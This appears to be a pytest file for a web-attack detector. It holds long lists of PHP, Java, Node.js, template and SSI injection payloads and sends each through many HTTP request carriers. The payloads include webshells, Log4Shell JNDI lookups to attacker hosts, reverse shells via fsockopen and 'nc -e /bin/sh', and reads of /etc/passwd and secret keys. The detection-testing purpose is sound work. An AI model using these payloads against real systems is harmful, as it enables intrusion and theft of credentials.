"""Code injection (PHP, Java, Node.js), SSTI and SSI written the way other people write them, beside benign near-misses."""
from __future__ import annotations

import base64
import gzip
import json
import urllib.parse

import pytest

from sensor.detect import THRESHOLD, code, ssi, ssti, verdict
from sensor.detect.rawrequest import RawRequest
from tests.detect.conftest import req
from tests.detect.wild_benign import benign_requests

Q = urllib.parse.quote


def _multipart(name: str, value: str, filename: str | None = None) -> tuple[list[tuple[str, str]], bytes]:
    b = "----rampartBoundary7MA4YWxk"
    disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
    ctype = "Content-Type: text/plain\r\n" if filename else ""
    body = (f"--{b}\r\nContent-Disposition: {disp}\r\n{ctype}\r\n{value}\r\n--{b}--\r\n").encode()
    return [("Content-Type", f"multipart/form-data; boundary={b}")], body


def build(carrier: str, value: str) -> RawRequest:
    """One request carrying `value` the way a client of a shop / forum / SaaS API would send it."""
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    js = [("Content-Type", "application/json")]
    if carrier == "q":
        return req(f"/search?q={Q(value, safe='')}&page=2")
    if carrier == "q2":  # double percent-encoded
        return req(f"/search?q={Q(Q(value, safe=''), safe='')}")
    if carrier == "form":
        return req("/comments", "POST", form, f"post_id=12&body={urllib.parse.quote_plus(value)}".encode())
    if carrier == "json":
        doc = {"order": {"id": 77, "lines": [{"sku": "A-1", "note": value}]}}
        return req("/api/v2/orders", "POST", js, json.dumps(doc).encode())
    if carrier == "jsonu":  # every non-alphanumeric character as a JSON \u escape
        esc = "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in value)
        return req("/api/v2/profile", "POST", js, ('{"user":{"bio":"' + esc + '"}}').encode())
    if carrier == "rawjson":  # the whole body is the payload (prototype pollution, polymorphic typing)
        return req("/api/v2/settings", "POST", js, value.encode())
    if carrier == "xml":
        return req("/api/import", "POST", [("Content-Type", "application/xml")], value.encode())
    if carrier == "cookie":
        return req("/account", headers=[("Cookie", f"lang=en; prefs={Q(value, safe='')}")])
    if carrier == "ua":
        return req("/", headers=[("User-Agent", value)])
    if carrier == "ref":
        return req("/", headers=[("Referer", value)])
    if carrier == "xff":
        return req("/", headers=[("X-Forwarded-For", value)])
    if carrier == "hdr":
        return req("/api/v1/ping", headers=[("X-Api-Version", value)])
    if carrier == "mp":
        hs, body = _multipart("message", value)
        return req("/contact", "POST", hs, body)
    if carrier == "mpfile":
        hs, body = _multipart("attachment", value, "notes.txt")
        return req("/upload", "POST", hs, body)
    if carrier == "path":
        return req("/wiki/" + Q(value, safe=""))
    if carrier == "b64":  # an app that base64-decodes a parameter (state / redirect blobs)
        return req("/cb?state=" + Q(base64.b64encode(value.encode()).decode(), safe=""))
    if carrier == "ent":  # HTML numeric entities in a form field
        return req("/comments", "POST", form, ("body=" + Q("".join(f"&#{ord(c)};" for c in value), safe="")).encode())
    if carrier == "rawq":  # the query string as written (parameter names carry the payload)
        return req("/api/user?" + value)
    if carrier == "rawform":
        return req("/api/user", "POST", form, value.encode())
    if carrier == "fname":  # an upload's file name
        hs, body = _multipart("upload", "hello", value)
        return req("/upload", "POST", hs, body)
    if carrier == "xfname":  # the file-name header of raw (non-multipart) upload widgets
        return req("/upload", "PUT", [("X-File-Name", value)], b"hello")
    if carrier == "ctype":  # the Content-Type header itself (Struts S2-045 puts OGNL there)
        return req("/struts2-showcase/upload.action", "POST", [("Content-Type", value)], b"x=1")
    if carrier == "jkey":  # a JSON object key
        return req("/api/v2/settings", "POST", js, json.dumps({"prefs": {value: 1}}).encode())
    raise ValueError(carrier)


def _java_gzip_b64(data: bytes) -> str:
    return base64.b64encode(gzip.compress(data, mtime=0)).decode()


_SER = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@"

PHP_ATTACKS = [
    ("form", "<?php system('id'); ?>"), ("q", "<?=`id`?>"), ("json", "<?= system($_GET['c']) ?>"),
    ("q", "system('id')"), ("form", "passthru('cat /etc/passwd');"), ("cookie", "eval($_POST['x']);"),
    ("mpfile", "<?php @eval($_REQUEST[cmd]); ?>"), ("q", "assert($_GET[a])"), ("json", "assert(\"system('id')\")"),
    ("form", "preg_replace('/.*/e','system(\"id\")','')"), ("q", "preg_replace(\"/x/e\",$_GET['c'],\"x\")"),
    ("json", "create_function('', 'system(\"id\");')"), ("q", "$f='sys'.'tem';$f('id');"),
    ("form", "$a=\"assert\";$a($_POST[x]);"), ("q", "call_user_func('system','id')"),
    ("json", "call_user_func_array(\"passthru\", array(\"id\"))"), ("mpfile", "<?php echo `ls -la`; ?>"),
    ("q", "include('http://evil.example/shell.txt')"), ("q", "php://input"),
    ("q", "php://filter/convert.base64-encode/resource=index.php"),
    ("cookie", "php://filter/read=string.rot13/resource=config.php"),
    ("q", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("q", "phar://uploads/avatar.jpg/test.txt"), ("q", "expect://id"),
    ("cookie", 'O:8:"stdClass":1:{s:4:"test";s:2:"id";}'), ("cookie", 'O:+8:"stdClass":1:{s:1:"a";s:1:"b";}'),
    ("b64", 'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}'),
    ("form", 'a:2:{i:0;O:10:"Monolog\\\\Handler":1:{s:4:"file";s:5:"x.php";}i:1;i:2;}'),
    ("form", "file_put_contents('shell.php', '<?php system($_GET[0]); ?>')"),
    ("json", "fwrite(fopen('x.php','w'),'<?php eval($_POST[1]);?>')"),
    ("q", "chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)"), ("q", "str_rot13('flfgrz')('id')"),
    ("form", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))"),
    ("mpfile", "<?php eval(gzinflate(base64_decode('S0ktLgEA'))); ?>"), ("q", "shell_exec('uname -a')"),
    ("json", "proc_open('id', $d, $p)"), ("q", "popen('id','r')"), ("form", "pcntl_exec('/bin/sh')"),
    ("q", "phpinfo()"), ("q", "highlight_file('/etc/passwd')"), ("cookie", "show_source('index.php')"),
    ("q", "file_get_contents('/etc/passwd')"), ("form", "readfile('../../config.php')"),
    ("q", "var_dump(scandir('/'))"), ("json", "print_r(glob('*'))"), ("q", "array_map('system', array('id'))"),
    ("form", "array_filter(array('id'), 'system')"), ("q", "$_GET[0]($_GET[1])"), ("q", "${system('id')}"),
    ("form", "{${phpinfo()}}"), ("q", "ini_set('allow_url_include', 1)"),
    ("mpfile", "<?php $c=$_GET['c'];echo shell_exec($c);?>"), ("form", '<script language="php">system("id");</script>'),
    ("q", 'eval("\\x73\\x79\\x73\\x74\\x65\\x6d(\'id\');")'), ("q", "(system)('id')"), ("q", "('sys'.'tem')('id')"),
    ("json", '"\\x73ystem"("id")'), ("q", "strrev('metsys')('id')"), ("q", "base64_decode('c3lzdGVt')('id')"),
    ("form", "include $_GET['file'];"), ("q", "require_once('/tmp/sess_abc');"),
    ("q", "zip://uploads/x.zip#shell.php"), ("q", "compress.zlib://php://input"),
    ("form", "eval(str_rot13('flfgrz(\"vq\");'))"), ("q", "echo exec('whoami');"),
    ("form", "$x=create_function('$a','return `$a`;');"), ("q", "extract($_GET);"),
    ("form", "parse_str($_SERVER['QUERY_STRING']);"), ("form", "register_shutdown_function('system','id');"),
    ("q", "ob_start('system'); echo 'id'; ob_end_flush();"), ("q", "posix_getpwuid(posix_geteuid())"),
    ("form", "move_uploaded_file($_FILES['f']['tmp_name'], 'x.php')"), ("ua", "<?php @include($_GET['p']); ?>"),
    ("cookie", 'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}'), ("q", "putenv('LD_PRELOAD=/tmp/x.so')"),
    ("form", "error_log('<?php system($_GET[1]);?>',3,'/var/www/s.php')"), ("q", "dl('evil.so')"),
    ("q", "get_defined_vars()"), ("hdr", "<?php system($_SERVER['HTTP_X_CMD']); ?>"),
    ("q2", "<?php passthru($_GET['c']); ?>"), ("ent", "<?php system('id'); ?>"),
    ("jsonu", "system('cat /etc/passwd')"), ("q", "$_=\"{\"^\"<\";$_(\"id\")"), ("q", "@$_[]=@!+_; $__=@${_}>>$_;"),
    ("form", "file_put_contents($_GET['f'],$_GET['d'])"), ("q", "copy('http://evil.example/s.txt','s.php')"),
    ("q", "fsockopen('203.0.113.5',4444)"), ("q", "mb_ereg_replace('.*','system(\"id\")','x','e')"),
    ("q", "usort($_GET,'system')"), ("q", "getenv('HTTP_CMD')"), ("q", "array_walk($arr, 'passthru')"),
    ("mp", "<?php system($_POST['c']); ?>"), ("q", "zlib_decode(base64_decode('eJwrrizJzM9TyCxWAAA='))"),
    ("q", "gzuncompress(base64_decode('eJwrrizJzM9TyCxWAAA='))"), ("q", "convert_uudecode('+<WES=&5M*\"=I9\"<\\'')"),
    ("q", "sys_get_temp_dir()"), ("q", "get_class_methods('PDO')"), ("q", "apache_child_terminate()"),
    ("form", "wp_remote_get('http://169.254.169.254/')"), ("q", "ReflectionFunction('system')"),
    ("q", "new ReflectionFunction('system')"),
    ("q", "__halt_compiler();"), ("q", "pfsockopen('203.0.113.5',4444)"), ("q", "bzdecompress(base64_decode('QlpoOQ=='))"),
    ("q", "get_defined_functions()"), ("q", "posix_uname()"), ("form", "invokeargs(array('id'))"),
    ("q", "array_merge($_GET,$_POST)"), ("q", "str_replace('x','',$_GET['c'])"), ("q", "assert(stripslashes($_GET[c]))"),
    ("q", "print(`id`);"), ("q", "echo(file_get_contents('/etc/passwd'));"), ("q", "system(\"id\")%00"),
    ("q", "die(system('id'))"), ("q", "exit(system('id'))"), ("q", "?>\n<?php system('id');"),
    ("q", "1;phpinfo();//"), ("q", "';system('id');//"), ("q", "\".system('id').\""), ("q", "${@phpinfo()}"),
]

JAVA_ATTACKS = [
    ("json", 'Runtime.getRuntime().exec("id")'), ("q", 'java.lang.Runtime.getRuntime().exec(new String[]{"sh","-c","id"})'),
    ("form", 'new ProcessBuilder("bash","-c","id").start()'),
    ("json", 'new java.lang.ProcessBuilder(new String[]{"id"}).start()'),
    ("q", 'Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null)'),
    ("q", '"".getClass().forName("java.lang.Runtime")'),
    ("ua", "${jndi:ldap://attacker.example:1389/a}"), ("hdr", "${jndi:rmi://198.51.100.7/Exploit}"),
    ("xff", "${jndi:dns://x.example/a}"), ("ref", "https://shop.example/${jndi:ldap://x.example/a}"),
    ("ua", "${${lower:j}ndi:${lower:l}dap://x.example/a}"),
    ("ua", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}"),
    ("hdr", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}"),
    ("ua", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}"),
    ("q", "${jndi:ldap://${env:USER}.x.example/a}"), ("cookie", "${${upper:j}ndi:ldap://x.example/a}"),
    ("q", "${env:AWS_SECRET_ACCESS_KEY}"), ("ua", "${sys:java.version}"), ("q2", "${jndi:ldap://x.example/a}"),
    ("json", "${jndi:ldaps://x.example/a}"), ("form", "${jndi:iiop://x.example/a}"), ("q", "${jndi:corba://x.example/a}"),
    ("ua", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}"), ("ua", "${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}"),
    ("ua", "${jn${lower:d}i:l${lower:d}ap://x.example/a}"), ("jsonu", "${jndi:ldap://x.example/a}"),
    ("ua", "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}"), ("hdr", "${${::-J}ndi:ldap://x.example/a}"),
    ("ua", "$%7Bjndi:ldap://x.example/a%7D"), ("ua", "${main:0}"), ("ua", "${ctx:loginId}"),
    ("rawform", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    ("rawform", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    ("rawq", "class.classLoader.URLs[0]=http://x.example/"),
    ("rawq", "class['module']['classLoader']['resources']['context']['parent']['pipeline']['first']['prefix']=shell"),
    ("q", "T(java.lang.Runtime).getRuntime().exec('id')"), ("q", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("q", "${T(java.lang.System).getenv()}"),
    ("json", 'new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()'),
    ("q", "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),x)"),
    ("q", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("q", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}"), ("q", "@java.lang.Runtime@getRuntime().exec('id')"),
    ("q", "${#_memberAccess[\"allowStaticMethodAccess\"]=true}"),
    ("q", "redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}"),
    ("q", '${pageContext.request.getSession().setAttribute("x","y")}'),
    ("q", "${pageContext.servletContext.getClassLoader()}"),
    ("q", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}"),
    ("q", "${facesContext.getExternalContext().redirect('http://x.example')}"),
    ("cookie", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA=="),
    ("form", "aced00057372001176616a612e7574696c2e486173684d6170"), ("cookie", _java_gzip_b64(_SER)),
    ("xml", '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array '
            'class="java.lang.String" length="1"><void index="0"><string>id</string></void></array>'
            '<void method="start"/></object></java>'),
    ("xml", '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">'
            '<target class="java.lang.ProcessBuilder"><command><string>id</string></command></target>'
            '<action>start</action></handler></dynamic-proxy></sorted-set>'),
    ("q", "rmi://198.51.100.7:1099/Exploit"), ("q", "ldap://x.example:1389/Basic/Command/Base64/aWQ="),
    ("rawjson", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://x.example/a","autoCommit":true}]'),
    ("rawjson", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x.example/a","autoCommit":true}'),
    ("form", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/"]]]]'),
    ("q", '"id".execute().text'), ("q", "Java.type('java.lang.Runtime').getRuntime().exec('id')"),
    ("json", "var p = java.lang.Runtime.getRuntime(); p.exec('id')"),
    ("q", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('1')"),
    ("q", "java.lang.System.exit(0)"), ("q", "new java.io.File('/etc/passwd')"),
    ("q", "java.nio.file.Files.readAllLines(java.nio.file.Paths.get('/etc/passwd'))"),
    ("q", "@java.lang.System@getenv()"), ("hdr", "${jndi:nis://x.example/a}"), ("hdr", "${jndi:http://x.example/a}"),
    ("q", "''.class.forName('java.lang.Runtime')"), ("q", "java.lang.Runtime"), ("q", "java.lang.ProcessBuilder"),
    ("q", "${Runtime.getRuntime().exec('id')}"), ("q", "Runtime.getRuntime().exec(request.getParameter(\"c\"))"),
]

NODE_ATTACKS = [
    ("q", "require('child_process').exec('id')"), ("json", 'require("child_process").execSync("cat /etc/passwd").toString()'),
    ("form", "process.mainModule.require('child_process').execSync('id')"),
    ("q", "global.process.mainModule.constructor._load('child_process').exec('id')"),
    ("q", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("rawq", "__proto__[isAdmin]=true"), ("rawq", "constructor[prototype][isAdmin]=true"),
    ("rawjson", '{"__proto__":{"isAdmin":true}}'),
    ("rawq", "__proto__.toString=x"), ("rawq", "a[__proto__][b]=1"), ("rawform", "user[__proto__][role]=admin"),
    ("rawjson", '{"user":{"name":"a","__proto__":{"admin":true}}}'),
    ("rawjson", '{"\\u005f\\u005fproto\\u005f\\u005f":{"x":1}}'),
    ("q", "eval(\"require('fs').readFileSync('/etc/passwd','utf8')\")"),
    ("q", "Function(\"return require('fs').readdirSync('.')\")()"), ("q", "new Function('return process.env')()"),
    ("json", "require('fs').writeFileSync('/tmp/x','y')"), ("q", "res.end(require('fs').readFileSync('/etc/passwd'))"),
    ("q", "process.binding('spawn_sync').spawn({file:'id',args:['id']})"),
    ("rawjson", '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
    ("q", "require('child_process').spawn('sh',['-c','id'])"), ("q", "import('child_process').then(m=>m.execSync('id'))"),
    ("q", "process.kill(process.pid)"), ("q", "setTimeout(function(){require('child_process').exec('id')},0)"),
    ("q", "global['pro'+'cess']['mainModule']"), ("q", "process['env']"),
    ("q", "Reflect.construct(Function, ['return process'])()"), ("q", "res.write(require('os').hostname())"),
    ("rawjson", '{"__proto__":{"sourceURL":"\\u2028\\u2029\\nglobal.process.mainModule.require(\'child_process\').execSync(\'id\')"}}'),
    ("q", "eval(String.fromCharCode(114,101,113,117,105,114,101))"), ("cookie", "require('child_process').exec('id')"),
    ("ua", "process.mainModule.require('child_process').execSync('id')"), ("q", "[].constructor.constructor('return process')()"),
    ("q", "Object.prototype.isAdmin=true"), ("rawq", "__proto__%5BisAdmin%5D=true"),
    ("rawq", "constructor.prototype.isAdmin=true"), ("b64", "require('child_process').exec('id')"),
    ("q", "(function(){return this})().process.exit()"), ("q", "module.constructor._load('child_process')"),
    ("q", "global.process.exit()"), ("q", "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')"),
    ("q", "fs.readFileSync('/etc/passwd')"), ("json", "eval(Buffer.from('cmVxdWlyZQ==','base64').toString())"),
]

SSTI_ATTACKS = [
    ("q", "{{7*7}}"), ("q", "{{7*'7'}}"), ("q", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("form", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("json", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("q", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"), ("q", "{{ lipsum.__globals__[\"os\"].popen('id').read() }}"),
    ("q", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("q", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"),
    ("q", "{{ joiner.__init__.__globals__.os.popen('id').read() }}"),
    ("form", "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{% endfor %}"),
    ("q", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("q", "{{['id']|filter('system')}}"), ("q", "{{['cat /etc/passwd']|map('system')|join}}"),
    ("q", "{{app.request.server.all|join(',')}}"), ("q", "${7*7}"), ("q", "#{7*7}"), ("q", "<%= 7*7 %>"),
    ("form", "<%= system('id') %>"), ("q", "<%= `ls` %>"), ("q", "<%= File.open('/etc/passwd').read %>"),
    ("form", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    ("q", '${"freemarker.template.utility.Execute"?new()("id")}'),
    ("q", "[#assign ex = 'freemarker.template.utility.Execute'?new()]${ ex('id')}"),
    ("q", "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}"),
    ("form", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"),
    ("q", '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")'),
    ("q", '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")'),
    ("q", "{php}echo `id`;{/php}"), ("q", "{system('id')}"),
    ("form", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"),
    ("q", "{$smarty.version}"), ("q", "{if system('id')}{/if}"),
    ("form", '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{/with}}{{/with}}{{/with}}'),
    ("q", '{{#with this as |obj|}}{{#with (obj.constructor.constructor "return process")}}{{/with}}{{/with}}'),
    ("q", "*{T(java.lang.Runtime).getRuntime().exec('id')}"), ("q", '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x'),
    ("q", "[[${7*7}]]"), ("q", "[(${T(java.lang.System).getenv()})]"),
    ("q", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
    ("form", "- var x = root.process\n= x.mainModule.require('child_process').execSync('id')"),
    ("q", '${self.module.cache.util.os.system("id")}'), ("q", "<% import os; x=os.popen('id').read() %>${x}"),
    ("q", '{% import os %}{{os.popen("id").read()}}'), ("q", "{{ settings.SECRET_KEY }}"), ("q", "{% debug %}"),
    ("q", "@(7*7)"), ("q", '@System.Diagnostics.Process.Start("cmd.exe","/c id")'),
    ("q", "<%= IO.popen('id').readlines() %>"),
    ("q", "{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}"),
    ("q", '{{ get_flashed_messages.__globals__.__builtins__.open("/etc/passwd").read() }}'),
    ("q", '{{request|attr(["_"*2,"class","_"*2]|join)}}'), ("q", "{{ namespace.__init__.__globals__.os.popen('id').read() }}"),
    ("q", '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}'),
    ("q", '{{ _self.env.setCache("ftp://x.example:21") }}'), ("q", "{{dump(app)}}"), ("ua", "{{7*7}}"),
    ("cookie", "{{config.items()}}"), ("json", "${7*7}"), ("hdr", "#{7*7}"), ("path", "{{7*7}}"),
    ("jsonu", "{{self.__init__.__globals__.__builtins__}}"), ("q", "{{ [].class.base.subclasses() }}"),
    ("q", "{{'a'.getClass().forName('java.lang.Runtime')}}"), ("q", "${{7*7}}"), ("q", "{{=7*7}}"),
    ("q", "{{ request.environ }}"), ("q", "{{ url_for.__globals__ }}"), ("q", "{{ range.constructor(\"return process\")() }}"),
    ("q", "<#assign value=\"freemarker.template.utility.Execute\"?new()>${value(\"id\")}"),
    ("q", "${\"\".getClass().forName(\"java.lang.Runtime\")}"), ("q", "{{ 7 * 7 }}"), ("q", "{{ 1337*1337 }}"),
]

# A second batch, written after the first round of changes and measured before any fix for it (73 / 77 at first)
MORE_ATTACKS = [
    ("q", "<?php $_GET['a']($_GET['b']); ?>"), ("form", "<? passthru($_GET[c]); ?>"),
    ("mpfile", "<?php echo shell_exec($_GET['e'].' 2>&1'); ?>"),
    ("mpfile", '<?php if(isset($_REQUEST[\'cmd\'])){ echo "<pre>"; $cmd = ($_REQUEST[\'cmd\']); system($cmd); echo "</pre>"; die; }?>'),
    ("q", '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");'), ("q", "{${eval($_GET[c])}}"),
    ("q", "\".passthru('id').\""), ("q", "<?php include($_GET['page'].'.php'); ?>"),
    ("q", "php://filter/convert.iconv.UTF8.CSUNICODE|convert.base64-decode/resource=php://temp"),
    ("q", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd"),
    ("cookie", 'O:29:"Illuminate\\Support\\MessageBag":2:{s:11:"*messages";a:0:{}s:9:"*format";s:1:"x";}'),
    ("cookie", 'a:1:{i:0;O:8:"stdClass":0:{}}'), ("q", "phar://./uploads/evil.phar"), ("q", "expect://ls"),
    ("form", "assert/*x*/($_POST[1])"), ("q", "$GLOBALS['_GET']['x']"), ("q", "array_map('ass'.'ert', array($_POST['x']))"),
    ("q", "implode('', array_map('chr', [115,121,115]))"), ("q", "pack('H*','73797374656d')"),
    ("q", '"\\163\\171\\163\\164\\145\\155"(\'id\')'), ("cookie", "$_COOKIE['x']($_COOKIE['y'])"),
    ("q", "preg_replace_callback('/.+/', 'system', 'id')"), ("q", "\\system('id');"), ("q", "SYSTEM('ID')"),
    ("q", "eval(hex2bin('73797374656d2827696427293b'))"),
    ("ua", "${jndi:ldap://127.0.0.1#evil.example:1389/a}"), ("ua", "${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}"),
    ("ua", "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://x.example/a}"), ("ua", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"),
    ("hdr", "${${sys:sun.cpu.isalist}jndi:ldap://x.example/a}"),
    ("q", "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(''.getClass().forName('java.lang.Runtime')).exec('id')}"),
    ("json", 'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("1")'),
    ("q", '(#context["xwork.MethodAccessor.denyMethodExecution"]=false)(#_memberAccess["allowStaticMethodAccess"]=true)'),
    ("xml", '<java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></object></java>'),
    ("cookie", "rO0ABXQABHRlc3Q="), ("rawjson", '{"@type":"java.net.Inet4Address","val":"dnslog.example"}'),
    ("rawjson", '{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://x.example/a"}'),
    ("rawjson", '{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext","configLocation":"http://x.example/s.xml"}'),
    ("q", 'def proc = "id".execute()'), ("q", "['bash','-c','id'].execute()"), ("q", "this.getClass().getClassLoader()"),
    ("rawjson", '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}'),
    ("rawform", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("rawform", "__proto__[block][type]=Text&__proto__[block][line]=process.mainModule.require('child_process').execSync('id')"),
    ("q", "\"+require('child_process').exec('id')+\""), ("q", "1;process.exit()"),
    ("q", "new (Function.prototype.constructor)(\"return process\")()"), ("q", "Object.constructor.constructor(\"return process\")()"),
    ("q", "{{''|attr('__class__')}}"), ("q", "{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')}}"), ("q", "{{ request['application']['__globals__'] }}"),
    ("q", "{{ config['__class__'] }}"),
    ("q", '{% with a = request|attr("application")|attr("\\x5f\\x5fglobals\\x5f\\x5f") %}{{a}}{% endwith %}'),
    ("q", "${{<%[%'\"}}%\\"), ("q", "{{4*4}}[[5*5]]"), ("q", '<%= system("whoami") %>'), ("q", "#{ 7 * 7 }"), ("q", "*{7*7}"),
    ("q", '${T(java.lang.Runtime).getRuntime().exec("id")}'), ("q", "{{constructor.constructor('return process')()}}"),
    ("q", "${__import__('os').popen('id').read()}"), ("q", '<%namespace name="x" module="os"/>'),
    ("q", "{{ ''.__class__.__bases__[0].__subclasses__() }}"), ("q", '{{ "".__class__.__mro__[-1].__subclasses__() }}'),
    ("q", "{{ self.__dict__ }}"), ("q", '#set($str=$class.inspect("java.lang.String").type)'),
    ("q", '{self::getStreamVariable("file:///etc/passwd")}'),
    ("q", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("q", "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance()}}"),
    ("q", '@{ System.Diagnostics.Process.Start("cmd.exe"); }'),
    ("q", '<!--#exec cmd="/bin/ls /" -->'), ("q", '<!--#echo var="HTTP_COOKIE" -->'),
    ("form", '<!--#exec cmd="nc -e /bin/sh 10.0.0.1 4444" -->'), ("q", '<!--#include file="/etc/passwd"-->'),
    ("q", '<esi:include src="/server-status"/>'), ("q", "<esi:vars>$(HTTP_COOKIE)</esi:vars>"),
    ("q", '<!--esi <esi:include src="http://x.example/"/> -->'),
]

# A third batch, written and measured after all other changes (48 / 49 before its one fix: Tornado's `handler`)
THIRD_BATCH = [
    ("mpfile", "<?php $a=base64_decode('c3lzdGVt');$a('id');?>"), ("q", '<?php ${"_GET"}[0](${"_GET"}[1]); ?>'),
    ("form", '<?php $x="\\x61\\x73\\x73\\x65\\x72\\x74";$x($_POST[\'p\']);?>'), ("q", '<?php @$_="s"."y"."s"."t"."e"."m"; $_($_GET[0]); ?>'),
    ("q", '${${"GLOBALS"}["_GET"]["x"]}'), ("q", "<?php echo(`$_GET[0]`); ?>"), ("q", 'array_map("\\x73ystem", ["id"])'),
    ("q", "call_user_func(implode('',['sys','tem']),'id')"), ("form", 'file_put_contents("/var/www/html/s.php", base64_decode($_POST["d"]))'),
    ("mpfile", "<?php $f=fopen(\"s.php\",\"w\");fwrite($f,'<?php eval($_POST[1]);?>');?>"),
    ("cookie", 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"*events";O:15:"Faker\\Generator":0:{}}'),
    ("cookie", 'a:1:{s:4:"test";O:3:"Foo":0:{}}'), ("q", 'include "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"'),
    ("q", "php://filter/string.toupper|string.rot13|convert.base64-encode/resource=flag"), ("q", "php://filter/resource=config"),
    ("q", "glob://*.php"), ("ua", "${jndi:ldap://x.example/${sys:user.name}}"), ("ua", "${j${::-n}di:ldap://x.example/a}"),
    ("hdr", "${${lower:${upper:j}}ndi:ldap://x.example/a}"),
    ("q", 'java.lang.Runtime.getRuntime().exec(new String(java.util.Base64.getDecoder().decode("aWQ=")))'),
    ("q", "${T(java.lang.Thread).sleep(10000)}"), ("q", 'new java.net.URL("http://x.example/").openStream()'),
    ("q", 'new javax.naming.InitialContext().lookup("ldap://x.example/a")'),
    ("xml", '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"></value></jdk.nashorn.internal.objects.NativeString></entry></map>'),
